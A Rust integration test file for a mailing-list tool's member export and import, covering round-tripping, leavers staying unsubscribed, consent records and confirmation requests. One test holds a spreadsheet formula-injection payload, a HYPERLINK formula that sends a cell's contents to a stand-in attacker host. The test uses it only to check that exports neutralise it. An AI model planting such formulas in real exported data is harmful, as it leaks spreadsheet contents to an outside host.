//! Members as an operator manages them, through the binary: an export
//! imports back unchanged (formulas in names made inert and restored);
//! importing or adding never undoes someone's leaving unless asked to
//! (--resubscribe); an active member keeps the settings a row leaves
//! blank; an import asks new people to confirm unless --confirmed records
//! why they may be mailed.

use crate::common::*;

fn env(db: &TestDb) -> Vec<(String, String)> {
    [
        ("GAZETTE_CONFIG", "/dev/null".to_string()),
        ("GAZETTE_DATABASE_URL", db.url.clone()),
        ("GAZETTE_LOG", "error".to_string()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_imports_back_and_leavers_stay_gone() {
    for db in databases().await {
        eprintln!("--- members on {}", db.label);
        let env = env(&db);
        let run =
            |args: &[&str], input: Option<&str>| gazette_cmd(&env, args, input.map(str::as_bytes));
        run(
            &["list", "create", LIST_ADDRESS, "--name", "PM Circle"],
            None,
        );
        run(
            &[
                "member",
                "add",
                "ann@example.org",
                "--name",
                "Doe, \"Ann\"",
                "--mode",
                "every",
            ],
            None,
        );
        run(
            &["member", "add", "ben@example.org", "cy@example.org"],
            None,
        );
        run(&["member", "remove", "cy@example.org"], None);
        let exported = run(&["member", "export"], None);
        assert!(
            exported.starts_with("email,name,status,mode\n"),
            "{exported}"
        );
        assert!(
            exported.contains("ann@example.org,\"Doe, \"\"Ann\"\"\",active,every"),
            "{exported}"
        );

        // Re-importing the export changes nothing: cy stays unsubscribed.
        let out = run(&["member", "import", "-"], Some(&exported));
        assert!(out.contains("updated 2, skipped 1"), "{out}");
        assert!(out.contains("sent 0 confirmation requests"), "{out}");
        assert_eq!(run(&["member", "export"], None), exported);

        // A sheet with blank cells: ann keeps her mode and name; dee, who
        // agreed elsewhere, is added with that reason on record.
        let out = run(
            &[
                "member",
                "import",
                "--confirmed",
                "met at the 2026 summit",
                "-",
            ],
            Some("email,mode,name\nann@example.org,,\ndee@example.org,paused,Dee\n"),
        );
        assert!(
            out.contains("added 1 members, updated 1, skipped 0"),
            "{out}"
        );
        let now = run(&["member", "export"], None);
        assert!(
            now.contains("ann@example.org,\"Doe, \"\"Ann\"\"\",active,every"),
            "{now}"
        );
        assert!(now.contains("dee@example.org,Dee,active,paused"), "{now}");

        // Asked to, an import adds a leaver back.
        let out = run(
            &[
                "member",
                "import",
                "--resubscribe",
                "--confirmed",
                "asked by phone",
                "-",
            ],
            Some("cy@example.org\n"),
        );
        assert!(out.contains("added 1 members"), "{out}");
        assert!(run(&["member", "export"], None).contains("cy@example.org,,active,digest"));

        // Without --confirmed, new people are asked, not added.
        let out = run(
            &["member", "import", "-"],
            Some("Email Address,First Name,Last Name\neve@example.org,Eve,Ng\n"),
        );
        assert!(out.contains("sent 1 confirmation requests"), "{out}");
        assert!(run(&["member", "export"], None).contains("eve@example.org,Eve Ng,pending,digest"));

        let store = gazette::store::Store::connect(&db.url).await.unwrap();
        let list = store.list_by_address(LIST_ADDRESS).await.unwrap().unwrap();
        let member = |e: &str| {
            let (store, e) = (store.clone(), e.to_string());
            async move { store.member_by_email(list.id, &e).await.unwrap().unwrap() }
        };
        let dee = member("dee@example.org").await;
        assert_eq!(
            dee.consent,
            "imported with this reason: met at the 2026 summit"
        );
        assert!(dee.confirmed_at.is_some());
        let eve = member("eve@example.org").await;
        assert_eq!(eve.confirmed_at, None);
        let queued = store.outbox_counts().await.unwrap();
        assert!(
            queued
                .iter()
                .any(|(k, _, n)| *k == gazette::store::OutboxKind::Notice && *n >= 1),
            "eve's confirmation request is queued: {queued:?}"
        );
    }
}

/// Names come from mail: one that a spreadsheet would run as a formula is
/// exported inert and imported back as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_names_are_neutralised_on_export() {
    let db = sqlite_db();
    let env = env(&db);
    let run =
        |args: &[&str], input: Option<&str>| gazette_cmd(&env, args, input.map(str::as_bytes));
    run(
        &["list", "create", LIST_ADDRESS, "--name", "PM Circle"],
        None,
    );
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
    run(&["member", "add", "mal@example.org", "--name", evil], None);
    let exported = run(&["member", "export"], None);
    assert!(exported.contains("\"'=HYPERLINK("), "{exported}");
    assert!(
        !exported.contains(",=HYPERLINK") && !exported.contains(",\"=HYPERLINK"),
        "{exported}"
    );
    run(&["member", "remove", "mal@example.org"], None);
    run(
        &[
            "member",
            "import",
            "--resubscribe",
            "--confirmed",
            "test",
            "-",
        ],
        Some(&exported),
    );
    let again = run(&["member", "export"], None);
    assert!(again.contains("\"'=HYPERLINK("), "{again}");
    let store = gazette::store::Store::connect(&db.url).await.unwrap();
    let list = store.list_by_address(LIST_ADDRESS).await.unwrap().unwrap();
    let m = store
        .member_by_email(list.id, "mal@example.org")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(m.name, evil, "restored exactly on import");
}
